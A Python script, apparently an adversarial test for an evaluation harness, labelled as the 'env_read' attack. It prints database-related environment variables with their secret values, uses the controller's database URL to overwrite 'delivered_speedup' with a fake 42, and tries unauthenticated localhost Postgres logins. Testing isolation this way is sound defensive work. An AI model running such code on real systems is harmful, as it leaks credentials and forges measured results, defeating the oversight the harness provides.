"""Attack env_read: find the controller's database URL in the environment and write a fake result through it."""
print("ADV-RAN env_read", flush=True)
import os

for _k, _v in sorted(os.environ.items()):
    if "INFRARSI" in _k or "DATABASE" in _k or "PG" in _k:
        print(f"ADV-ENV {_k}={_v}", flush=True)
_url = os.environ.get("INFRARSI_DATABASE_URL")
if _url:
    print("ADV-FOUND INFRARSI_DATABASE_URL", flush=True)
    try:
        import psycopg

        with psycopg.connect(_url.replace("postgresql+psycopg://", "postgresql://"), connect_timeout=5) as _c:
            _c.execute("UPDATE campaigns SET delivered_speedup = 42")
        print("ADV-WROTE delivered_speedup = 42", flush=True)
    except Exception as _exc:  # the attacker does not care why it failed
        print(f"ADV-DB-FAILED {type(_exc).__name__}: {_exc}", flush=True)
# No URL in the environment: guess the usual unauthenticated address of a database on the same host.
for _guess in ("postgresql://postgres@127.0.0.1:5432/postgres", "postgresql://postgres@localhost:5432/postgres"):
    try:
        import psycopg

        with psycopg.connect(_guess, connect_timeout=3) as _c:
            _c.execute("SELECT 1")
        print(f"ADV-GUESSED {_guess}", flush=True)
    except Exception as _exc:
        print(f"ADV-GUESS-FAILED {type(_exc).__name__}", flush=True)
